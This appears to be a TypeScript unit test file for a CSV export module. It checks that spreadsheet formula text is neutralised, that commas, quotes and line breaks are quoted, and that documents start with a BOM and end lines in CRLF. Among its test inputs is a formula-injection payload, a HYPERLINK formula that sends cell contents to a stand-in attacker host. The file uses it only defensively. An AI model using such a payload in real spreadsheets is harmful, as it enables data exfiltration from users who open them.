import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CRLF, UTF8_BOM, csvCell, csvDocument, csvHead, csvRows, neutraliseFormula, numberCell, quoteCell, type CsvColumn } from '../../../shared/export/csv';
import { parseCsv } from './parse-csv';

describe('CSV cells', () => {
  it('neutralises text a spreadsheet would run as a formula', () => {
    const cases: [string, string][] = [
      ['=1+1', "'=1+1"],
      ['=HYPERLINK("http://evil.example/?"&A1,"Click")', `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`],
      ['+44 20 7946 0000', "'+44 20 7946 0000"],
      ['-2+3', "'-2+3"],
      ['-5', "'-5"],
      ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
      ['\t=cmd', "'\t=cmd"],
      ['\r=cmd', `"'\r=cmd"`],
      ['＝1+1', "'＝1+1"],
      ['Ada = fine', 'Ada = fine'],
      ['', ''],
    ];
    for (const [input, expected] of cases) expect(csvCell(input), JSON.stringify(input)).toBe(expected);
    // The one-scan shortcut for plain text must agree with the two rules spelled out, for any text.
    const risky = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ',', '＝', '＋', '－', '＠', 'a', ' ', 'é');
    fc.assert(
      fc.property(fc.oneof(fc.string(), fc.array(risky, { maxLength: 6 }).map((cs) => cs.join(''))), (text) => {
        expect(csvCell(text)).toBe(quoteCell(neutraliseFormula(text)));
      }),
      { numRuns: 2000 },
    );
  });

  it('keeps numbers numeric, -5 included: only text is neutralised', () => {
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(70)).toBe('70');
    expect(csvCell(66.66666666666667)).toBe('66.66666666666667');
    expect(csvCell(0)).toBe('0');
    expect(csvCell(Number.NaN)).toBe('');
    expect(csvCell(Number.POSITIVE_INFINITY)).toBe('');
    expect(numberCell(1e-7)).toBe('0.0000001');
    expect(numberCell(1e21)).toBe('1000000000000000000000');
    expect(csvCell('-5')).toBe("'-5");
  });

  it('quotes commas, quotes and line breaks (RFC 4180), nothing else', () => {
    expect(csvCell('Good, then "not so good"\nand a new line')).toBe('"Good, then ""not so good""\nand a new line"');
    expect(csvCell('plain words')).toBe('plain words');
    expect(csvCell(' padded ')).toBe(' padded ');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(true)).toBe('yes');
    expect(csvCell(false)).toBe('no');
    expect(neutraliseFormula("'already")).toBe("'already");
  });

  it('a document starts with the BOM and a header row, and every line ends in CRLF', () => {
    type Row = { name: string; score: number | null; note: string };
    const columns: CsvColumn<Row>[] = [
      { header: 'name', value: (r) => r.name },
      { header: 'score', value: (r) => r.score },
      { header: 'note', value: (r) => r.note },
    ];
    const text = csvDocument(columns, [
      { name: '=evil()', score: -5, note: 'line one\r\nline two, with "quotes"' },
      { name: 'Zoë Ørsted', score: null, note: '' },
    ]);
    expect(text.startsWith(UTF8_BOM)).toBe(true);
    expect(text.endsWith(CRLF)).toBe(true);
    expect(csvHead(columns)).toBe(`${UTF8_BOM}name,score,note${CRLF}`);
    expect(parseCsv(text.slice(1))).toEqual([
      ['name', 'score', 'note'],
      ["'=evil()", '-5', 'line one\r\nline two, with "quotes"'],
      ['Zoë Ørsted', '', ''],
    ]);
    expect(csvRows(columns, [])).toBe('');
    // UTF-8 bytes: the BOM is EF BB BF.
    expect([...Buffer.from(text, 'utf8').subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  });
});
